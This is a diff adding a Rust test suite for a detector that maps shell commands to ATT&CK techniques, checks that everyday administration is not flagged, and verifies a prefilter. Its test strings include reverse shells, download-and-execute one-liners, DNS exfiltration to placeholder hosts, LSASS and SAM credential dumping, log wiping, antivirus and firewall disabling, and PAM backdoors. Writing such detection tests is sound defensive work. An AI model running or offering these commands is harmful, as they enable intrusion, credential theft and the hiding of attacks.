@@ -1,0 +1,567 @@
+//! The signature table's behaviour: what each pattern names (with its technique), what
+//! everyday administration must not be named, and that the literal prefilter hides no match.
+
+use super::*;
+
+fn ids(hits: &[Hit]) -> Vec<&str> {
+    hits.iter().map(|h| h.id).collect()
+}
+
+#[test]
+fn behaviour_is_recognised_with_its_technique() {
+    let s = Signatures::new();
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "curl -fsSL http://x.sh | sudo bash",
+            "download-pipe-shell",
+            "T1105",
+        ),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
+            "download-execute-powershell",
+            "T1059.001",
+        ),
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "reverse-shell-devtcp",
+            "T1059.004",
+        ),
+        (
+            "php -r '$s=fsockopen(\"192.0.2.7\",443);passthru(\"/bin/sh -i <&3 >&3\");'",
+            "reverse-shell-script",
+            "T1059",
+        ),
+        (
+            "php -r '$c=fsockopen(\"198.51.100.2\",8080);`sh <&3 >&3 2>&3`;'",
+            "reverse-shell-script",
+            "T1071",
+        ),
+        (
+            "c,_:=net.Dial(\"tcp\",\"203.0.113.5:53\");cmd:=exec.Command(\"bash\");cmd.Stdin=c",
+            "reverse-shell-script",
+            "T1059",
+        ),
+        (
+            "rcat connect -s bash 203.0.113.9 4444",
+            "reverse-shell-netcat",
+            "T1059",
+        ),
+        ("sudo log erase --all", "linux-logs-wiped", "T1070.002"),
+        (
+            "sudo srm /var/log/system.log",
+            "linux-logs-wiped",
+            "T1685.006",
+        ),
+        (
+            "cat /dev/null > /var/mail/alice",
+            "mailbox-cleared",
+            "T1070.008",
+        ),
+        (
+            "ln -sf /dev/null ~/.bash_history",
+            "shell-history-wiped",
+            "T1070.003",
+        ),
+        (
+            "Set-PSReadLineOption -AddToHistoryHandler { return $false }",
+            "shell-history-wiped",
+            "T1690",
+        ),
+        (
+            "msedge.exe --disable-gpu-sandbox --gpu-launcher=\"cmd /c calc.exe &&\"",
+            "browser-launches-command",
+            "T1218",
+        ),
+        (
+            "regedit /E C:\\Windows\\Temp\\file.ext:regfile.reg HKEY_CURRENT_USER\\Key",
+            "hidden-artifact",
+            "T1564",
+        ),
+        (
+            "$f = Get-Item $env:temp\\a.txt -Force; $f.attributes='Hidden'",
+            "hidden-artifact",
+            "T1564",
+        ),
+        (
+            "cdb.exe -pd -pn notepad.exe\n.shell cmd /c calc.exe",
+            "trusted-dev-utility",
+            "T1127",
+        ),
+        (
+            "rd /s /q %systemdrive%\\$RECYCLE.BIN",
+            "indicator-removed",
+            "T1070.004",
+        ),
+        ("sudo lsmod | grep -i vboxguest", "sandbox-evasion", "T1082"),
+        (
+            "grep -i 'token' ~/.zsh_history > /tmp/t.txt",
+            "credentials-in-history",
+            "T1552.003",
+        ),
+        (
+            "Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String password",
+            "credentials-in-history",
+            "T1552.003",
+        ),
+        (
+            "echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sshd",
+            "pam-modified",
+            "T1556.003",
+        ),
+        (
+            "sudo sed -i 's/^auth.*/auth sufficient pam_rootok.so/' /etc/pam.d/sudo",
+            "pam-modified",
+            "T1556.003",
+        ),
+        (
+            "assoc .pdf=exefile",
+            "file-association-changed",
+            "T1546.001",
+        ),
+        (
+            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
+            "lsass-dump",
+            "T1003.001",
+        ),
+        (
+            "reg save HKLM\\SAM C:\\t\\sam",
+            "sam-hive-dump",
+            "T1003.002",
+        ),
+        (
+            "vssadmin delete shadows /all /quiet",
+            "recovery-inhibited",
+            "T1490",
+        ),
+        (
+            "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
+            "scheduled-task",
+            "T1053.005",
+        ),
+        ("wevtutil cl Security", "log-cleared", "T1070.001"),
+        (
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            "av-disabled",
+            "T1685",
+        ),
+        (
+            "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
+            "ssh-key-added",
+            "T1098.004",
+        ),
+        ("Set-MpPreference -dioavp 1", "av-disabled", "T1562.001"),
+        (
+            "mdatp config behavior-monitoring --value disabled",
+            "av-disabled",
+            "T1685",
+        ),
+        (
+            "dism.exe /online /disable-feature /featurename:Windows-Defender-ApplicationGuard",
+            "av-disabled",
+            "T1685",
+        ),
+        ("taskkill /f /im SophosHealth.exe", "av-disabled", "T1685"),
+        (
+            "sudo iptables -P INPUT ACCEPT",
+            "firewall-disabled",
+            "T1686",
+        ),
+        ("ufw logging off", "firewall-disabled", "T1562.004"),
+        (
+            "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
+            "firewall-rule-changed",
+            "T1686",
+        ),
+        (
+            "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
+            "firewall-rule-changed",
+            "T1686",
+        ),
+        ("sudo iptables -S", "firewall-discovery", "T1518.001"),
+        (
+            "dd if=/dev/zero of=/var/log/auth.log bs=1k count=64",
+            "linux-logs-wiped",
+            "T1070.002",
+        ),
+        (
+            "truncate -s 0 /var/lib/docker/containers/abc/abc-json.log",
+            "linux-logs-wiped",
+            "T1070.002",
+        ),
+        (
+            "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space; sysctl kernel.yama.ptrace_scope=0",
+            "exploit-mitigation-disabled",
+            "T1562.001",
+        ),
+        (
+            "bcdedit /set {current} nx AlwaysOff",
+            "exploit-mitigation-disabled",
+            "T1685",
+        ),
+        (
+            "xattr -r -d com.apple.quarantine ~/Downloads/tool.app",
+            "gatekeeper-bypass",
+            "T1553.001",
+        ),
+        (
+            "aws cloudtrail stop-logging --name management-events",
+            "cloud-defences-impaired",
+            "T1562.008",
+        ),
+        (
+            "gcloud logging sinks delete audit-sink --quiet",
+            "cloud-defences-impaired",
+            "T1562.008",
+        ),
+        (
+            "nslookup `whoami | xxd -p`.exfil.example.net",
+            "dns-exfiltration",
+            "T1048.003",
+        ),
+        (
+            "for c in $(cat secrets | base32); do dig +short $(echo $c).t.example.org; done",
+            "dns-exfiltration",
+            "T1071.004",
+        ),
+        (
+            "ps -ef | grep -E 'filebeat|wazuh-agent'",
+            "security-software-discovery",
+            "T1518.001",
+        ),
+        ("pkill -SIGTERM ^cron$", "service-stopped", "T1489"),
+        ("capsh --gid=0 --uid=0 --", "setuid-abuse", "T1548.001"),
+        (
+            "New-LocalUser -Name svc_backup -NoPassword -AccountNeverExpires",
+            "account-without-password",
+            "T1136.001",
+        ),
+        ("sudo passwd -d guest", "account-without-password", "T1098"),
+        ("Set-MpPreference -drtm $true", "av-disabled", "T1685"),
+        ("ufw --force disable", "firewall-disabled", "T1686"),
+        ("sudo iptables -vnL", "firewall-discovery", "T1518.001"),
+        (
+            "systemctl disable --now auditd",
+            "security-service-stopped",
+            "T1685",
+        ),
+        (
+            "echo 127.0.0.1 winatp-gw-eus.microsoft.com >> C:\\Windows\\System32\\drivers\\etc\\hosts",
+            "security-telemetry-blocked",
+            "T1562.001",
+        ),
+        (
+            "aws --region us-east-1 cloudtrail stop-logging --name trail",
+            "cloud-defences-impaired",
+            "T1562.008",
+        ),
+        (
+            "gcc /tmp/.x.c -o /tmp/.x && /tmp/.x",
+            "compile-after-delivery",
+            "T1027.004",
+        ),
+        (
+            "cp evil.plist ~/Library/LaunchAgents/com.apple.update.plist",
+            "launchd-persistence",
+            "T1543.001",
+        ),
+        (
+            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start /t REG_DWORD /d 0 /f",
+            "logging-disabled",
+            "T1562.002",
+        ),
+        (
+            "Set-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Spynet' -Name SubmitSamplesConsent -Value 2",
+            "av-disabled",
+            "T1685",
+        ),
+        (
+            "sudo systemctl stop systemd-journald",
+            "security-service-stopped",
+            "T1685",
+        ),
+        (
+            "sudo launchctl bootout system /Library/LaunchDaemons/com.sentinelone.sentineld.plist",
+            "security-service-stopped",
+            "T1562.001",
+        ),
+        (
+            "echo '*.* /dev/null' >> /etc/rsyslog.d/00-quiet.conf",
+            "logging-config-changed",
+            "T1562.006",
+        ),
+        (
+            "Add-DnsClientNrptRule -Namespace '.sentinelone.net' -NameServers 0.0.0.0",
+            "security-telemetry-blocked",
+            "T1685",
+        ),
+        (
+            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f",
+            "exploit-mitigation-disabled",
+            "T1562.001",
+        ),
+        ("chage -l deploy", "password-policy-discovery", "T1201"),
+        (
+            "Get-ADDefaultDomainPasswordPolicy",
+            "password-policy-discovery",
+            "T1201",
+        ),
+        (
+            "Get-WinSystemLocale; Get-WinUserLanguageList",
+            "locale-discovery",
+            "T1614",
+        ),
+        (
+            "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 111122223333",
+            "cloud-compute-modified",
+            "T1578",
+        ),
+        (
+            "aws s3 rb s3://backups-prod --force",
+            "data-destroyed",
+            "T1485",
+        ),
+        (
+            "gcc /tmp/x.c -o /tmp/x; gcc -w k.c && ./a.out",
+            "compile-after-delivery",
+            "T1027.004",
+        ),
+        (
+            "powershell.exe -v 2 -nop -c \"Get-Process\"",
+            "powershell-downgrade",
+            "T1562.010",
+        ),
+    ];
+    for (text, id, technique) in cases {
+        let hits = s.scan([*text]);
+        let hit = hits
+            .iter()
+            .find(|h| h.id == *id)
+            .unwrap_or_else(|| panic!("{id} not in {:?} for {text}", ids(&hits)));
+        assert!(hit.attack.contains(technique), "{id}");
+        assert!(!hit.evidence.is_empty());
+    }
+}
+
+#[test]
+fn plain_administration_stays_quiet_or_light() {
+    let s = Signatures::new();
+    for text in [
+        "ls -la /home",
+        "git commit -m 'fix'",
+        "Get-ChildItem C:\\Users",
+        "tar -xzf a.tar.gz",
+        "docker ps",
+        "cat /etc/pam.d/sshd",
+        "history | tail -20",
+        "log show --last 1h",
+        "git log --oneline",
+        "chrome --headless --disable-gpu",
+        "csc Program.cs",
+        "mkdir -p /tmp/build",
+        "sudo ufw status verbose",
+        "dig example.com MX",
+        "host $server",
+        "xattr -l report.pdf",
+        "sysctl -a | grep randomize_va_space",
+        "Get-Service WinDefend",
+        "aws cloudtrail describe-trails",
+        "pwsh -NoProfile -File build.ps1 -Verbose",
+        "systemctl status systemd-journald",
+        "grep -v '^#' /etc/rsyslog.conf",
+        "cp /etc/rsyslog.conf rsyslog.conf.bak",
+        "Get-DnsClientNrptRule",
+        "aws ec2 describe-snapshots --owner-ids self",
+        "gcc -O2 -o hello hello.c",
+        "ls -l ~/Library/LaunchAgents/",
+        "passwd",
+    ] {
+        let hits = s.scan([text]);
+        assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
+    }
+}
+
+#[test]
+fn administration_that_looks_alike_is_not_named() {
+    // Each text is the everyday form of what a pattern names: reading, backing up,
+    // re-enabling, reloading, a script's own arguments.
+    let s = Signatures::new();
+    let cases: &[(&str, &str)] = &[
+        (
+            "powershell -File deploy.ps1 -Version 2",
+            "powershell-downgrade",
+        ),
+        (
+            "powershell -c \"Set-Variable -Name x -Value 2\"",
+            "powershell-downgrade",
+        ),
+        (
+            "Set-MpPreference -DaysToKeepQuarantineItems 1",
+            "av-disabled",
+        ),
+        (
+            "Set-Service SentinelAgent -StartupType Automatic",
+            "av-disabled",
+        ),
+        ("taskkill /im notepad.exe & echo sophos done", "av-disabled"),
+        ("pfctl -f /etc/pf.conf", "firewall-disabled"),
+        (
+            "iptables -A INPUT -s 192.0.2.1 -j DROP",
+            "firewall-discovery",
+        ),
+        ("cat /etc/ufw/ufw.conf", "firewall-rule-changed"),
+        ("service rsyslog restart", "security-service-stopped"),
+        ("service auditd status", "security-service-stopped"),
+        (
+            "cp -p /etc/audit/auditd.conf /etc/audit/auditd.conf.orig",
+            "logging-config-changed",
+        ),
+        (
+            "Add-DnsClientNrptRule -Namespace test.local -NameServers 127.0.0.1",
+            "security-telemetry-blocked",
+        ),
+        (
+            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /d 1 /f & reg add HKLM\\x /v y /d 0",
+            "exploit-mitigation-disabled",
+        ),
+        (
+            "curl -H \"Host: api\" https://$(terraform output -raw lb).example.com/health",
+            "dns-exfiltration",
+        ),
+        (
+            "Set-ADDefaultDomainPasswordPolicy -MinPasswordLength 14",
+            "password-policy-discovery",
+        ),
+        (
+            "cp /etc/login.defs /etc/login.defs.bak",
+            "password-policy-discovery",
+        ),
+        ("usermod -p \"$HASH\" bob", "account-without-password"),
+        (
+            "plutil -lint /Library/LaunchDaemons/backup.plist",
+            "launchd-persistence",
+        ),
+        (
+            "reg query HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start",
+            "logging-disabled",
+        ),
+        ("kill -HUP $(pgrep nginx)", "service-stopped"),
+        (
+            "aws s3 rm s3://build-cache/tmp/ --recursive",
+            "data-destroyed",
+        ),
+        ("gcc hello.c && ./a.out", "compile-after-delivery"),
+        (
+            "grep filebeat docker-compose.yml",
+            "security-software-discovery",
+        ),
+    ];
+    for (text, id) in cases {
+        let hits = s.scan([*text]);
+        assert!(!ids(&hits).contains(id), "{id} named for {text}");
+    }
+}
+
+#[test]
+fn listing_the_firewall_is_not_switching_it_off() {
+    let s = Signatures::new();
+    for text in [
+        "sudo iptables -L -n",
+        "iptables-save > rules.v4",
+        "ufw status numbered",
+    ] {
+        let hits = s.scan([text]);
+        let found = ids(&hits);
+        assert!(found.contains(&"firewall-discovery"), "{text}: {found:?}");
+        assert!(!found.contains(&"firewall-disabled"), "{text}: {found:?}");
+        assert!(
+            !found.contains(&"firewall-rule-changed"),
+            "{text}: {found:?}"
+        );
+    }
+}
+
+#[test]
+fn a_remote_path_is_not_a_hidden_stream() {
+    let s = Signatures::new();
+    for text in [
+        "scp report.txt alice@files.example.com:backup/report.txt",
+        "curl http://files.example.com:8080/a.txt",
+        "Copy-Item C:\\data\\a.txt D:\\backup\\a.txt",
+    ] {
+        let hits = s.scan([text]);
+        assert!(!ids(&hits).contains(&"hidden-artifact"), "{text}");
+    }
+}
+
+#[test]
+fn most_patterns_are_reached_through_their_literals() {
+    let s = Signatures::new();
+    let always: Vec<&str> = s.always.iter().map(|&i| PATTERNS[i].id).collect();
+    assert!(always.len() * 10 < PATTERNS.len(), "always run: {always:?}");
+    eprintln!("ALWAYS {always:?} of {}", PATTERNS.len());
+}
+
+/// Every pattern's matches, found directly, against what the scan finds.
+fn assert_scan_finds_what_each_pattern_does(s: &Signatures, t: &str) {
+    let direct: Vec<&str> = PATTERNS
+        .iter()
+        .zip(&s.each)
+        .filter(|(_, re)| re.is_match(t))
+        .map(|(p, _)| p.id)
+        .collect();
+    let found: Vec<&str> = s.scan([t]).iter().map(|h| h.id).collect();
+    assert_eq!(found, direct, "{t}");
+}
+
+#[test]
+fn the_prefilter_never_hides_a_match_in_the_corpus() {
+    let path = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../../shared/data/commands/commands.jsonl.gz"
+    );
+    let Ok(file) = std::fs::File::open(path) else {
+        eprintln!("skipped: {path} is absent");
+        return;
+    };
+    use std::io::BufRead;
+    let s = Signatures::new();
+    let lines = std::io::BufReader::new(flate2::read::MultiGzDecoder::new(file)).lines();
+    // Every 16th text keeps the test quick in a debug build; all texts ran in release.
+    for line in lines.map_while(Result::ok).step_by(16) {
+        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
+        assert_scan_finds_what_each_pattern_does(&s, v["text"].as_str().unwrap());
+    }
+}
+
+#[test]
+fn the_prefilter_never_hides_a_match() {
+    // Every pattern's own evidence, in any case, is found through the prefilter.
+    let s = Signatures::new();
+    let texts = [
+        "CURL -s http://x | SH",
+        "Bash -i >& /dev/TCP/1.2.3.4/80 0>&1",
+        "SCHTASKS /Create /tn x",
+        "vssadmin Delete Shadows /all",
+        "echo x >> ~/.SSH/authorized_keys",
+        "Reg Save HKLM\\SAM sam.hiv",
+        "certutil -URLcache -f http://a/b c",
+    ];
+    for t in texts {
+        assert_scan_finds_what_each_pattern_does(&s, t);
+    }
+}
+
+#[test]
+fn a_pattern_counts_once_at_its_first_layer() {
+    let s = Signatures::new();
+    let hits = s.scan([
+        "powershell -enc AAAA",
+        "IEX (New-Object Net.WebClient).DownloadString('http://a')",
+    ]);
+    let h = hits
+        .iter()
+        .find(|h| h.id == "download-execute-powershell")
+        .unwrap();
+    assert_eq!(h.layer, 1);
+    assert_eq!(hits.iter().filter(|h| h.id == h.id).count(), hits.len());
+}
